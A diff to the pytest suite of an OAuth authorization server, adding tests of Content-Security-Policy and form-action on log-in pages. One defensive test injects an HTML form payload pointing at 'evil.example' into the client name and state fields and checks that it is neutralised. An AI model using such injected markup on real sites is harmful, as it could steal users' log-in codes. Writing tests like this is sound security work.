@@ -5,7 +5,7 @@ from typing import Any
 
 import pytest
 
-from tests.oauth_server import ISSUER, AuthServer, Visit, authorization_path, logged_in
+from tests.oauth_server import ISSUER, AuthServer, Visit, authorization_path
 
 OPENER_POLICY = "Cross-Origin-Opener-Policy"
 
@@ -35,3 +35,52 @@ def test_the_account_page_has_no_access_to_the_page_that_opened_it(server: AuthS
     visit.log_in()
     page = visit.browser.get(f"/account?request={visit.id}")
     assert (page.status_code, page.headers[OPENER_POLICY]) == (200, "same-origin")
+
+
+@pytest.mark.parametrize(
+    "uri",
+    [
+        "https://client.example/callback",
+        "https://client.example:8443/callback",
+        "https://xn--bcher-kva.example/callback",
+        "https://[2001:db8::1]/callback",
+        "http://localhost:8787/callback",
+        "http://[::1]:3000/callback",
+        "cursor://anysphere.cursor-mcp/oauth/callback",
+        "vscode://vscode.microsoft-authentication",
+        "com.example.app:/oauth2redirect",
+        "io.raycast:/oauth?package_name=Extension",
+    ],
+)
+def test_the_pages_of_a_log_in_let_the_client_redirect_the_browser_further(server: AuthServer, uri: str) -> None:
+    """Chromium checks form-action for each redirect after a form, and some clients redirect to a third address."""
+    visit = Visit(server)
+    visit.open(authorization_path(server.register(uri), redirect_uri=uri))
+    pages = [visit.browser.get(f"/log-in?request={visit.id}"), visit.log_in("AAAA-AAAA")]
+    visit.log_in()
+    for page in (*pages, visit.look()):
+        policy = page.headers["Content-Security-Policy"]
+        assert policy == "default-src 'none'; style-src 'self'; frame-ancestors 'none'; base-uri 'none'", page.url
+
+
+def test_the_forms_of_a_log_in_are_sent_to_this_server_only(server: AuthServer) -> None:
+    """Their policy has no form-action, which would stop a form in the name of a client."""
+    form = '"><form action="https://evil.example"><input name=code><button formaction="https://evil.example">'
+    visit = Visit(server)
+    visit.open(authorization_path(server.register(client_name=form), state=form))
+    pages = [visit.browser.get(f"/log-in?request={visit.id}"), visit.log_in(form)]
+    visit.log_in()
+    for page in (*pages, visit.look()):
+        (target,) = re.findall(r'<form[^>]* action="([^"]+)"', page.text)
+        assert target.startswith(f"{ISSUER}/")
+        assert not re.search(r"<[^>]* formaction=", page.text)
+
+
+@pytest.mark.parametrize("path", ["/account", "/authorize?client_id=nobody", "/jwks.json"])
+def test_other_responses_allow_forms_to_this_server_only(server: AuthServer, path: str) -> None:
+    visit = Visit(server)
+    answer = visit.open(path)
+    if visit.id:
+        visit.log_in()
+        answer = visit.browser.get(f"{path}?request={visit.id}")
+    assert "form-action 'self'" in answer.headers["Content-Security-Policy"].split("; ")
